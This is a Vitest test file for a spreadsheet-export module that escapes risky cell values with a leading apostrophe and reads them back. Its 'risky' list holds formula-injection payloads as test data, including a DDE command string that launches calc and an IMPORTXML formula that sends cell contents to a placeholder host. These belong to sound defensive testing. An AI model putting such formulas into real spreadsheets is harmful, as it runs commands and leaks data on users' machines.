import { describe, expect, it } from 'vitest';
import type { Column } from '../../../src/register/columns/column';
import { asEntered, needsApostrophe } from '../../../src/register/values/asEntered';
import { readCell } from '../../../src/register/values/readCell';

const text: Column = { header: 'Text', kind: 'longText', width: 100, help: 'Hjälp.' };
const date: Column = { header: 'Dag', kind: 'date', width: 100, help: 'Hjälp.' };

const risky = [
  '=1+1', '=HYPERLINK("https://exempel.se";"x")', '=IMPORTXML(CONCAT("http://x/";A1);"//a")', "=cmd|'/C calc'!A0", '+1', '+cmd', '-1', '-2+3+cmd', '@SUM(1+1)', '"=1"', '(1)', '007', '12%', '1e5', '10:30', '1/2', '2026-01-15', '2017-11',
  'Nov -17', 'maj', 'SANT', 'false', "'x", '#REF!', '٣', '½', 'KS 2019/777', 'a\n=1', 'a\r=1',
];

describe('what the sheet must be given', () => {
  it.each(risky)('%j is marked as text', (value) => {
    expect(asEntered(text, value)).toBe(`'${value}`);
  });

  it.each(['Stadsfesten', 'Lås och låstjänster', 'Ålborg: se nedan', ''])('%j stands as it is', (value) => {
    expect(asEntered(text, value)).toBe(value);
  });

  it('is a day for a day, a text for a month', () => {
    expect(asEntered(date, '2026-01-15')).toBe('2026-01-15');
    expect(asEntered(date, '2017-11')).toBe("'2017-11");
    expect(asEntered(date, '?')).toBe("'?");
  });

  it('is the number, the day or the truth value itself', () => {
    const day = new Date(2026, 0, 15);
    expect([22_500, day, true].map((cell) => asEntered(text, cell))).toEqual([22_500, day, true]);
  });

  it.each(risky)('%j is read back, whether the cell keeps the apostrophe or not', (value) => {
    const entered = asEntered(text, value);
    const lines = value.trim().replace('\r', '\n');
    expect(readCell(text, entered)).toBe(lines);
    expect(readCell(text, String(entered).slice(1))).toBe(lines);
  });

  it('knows a text from what the sheet would compute', () => {
    expect(needsApostrophe('')).toBe(false);
    expect(needsApostrophe('ramavtal')).toBe(false);
  });
});
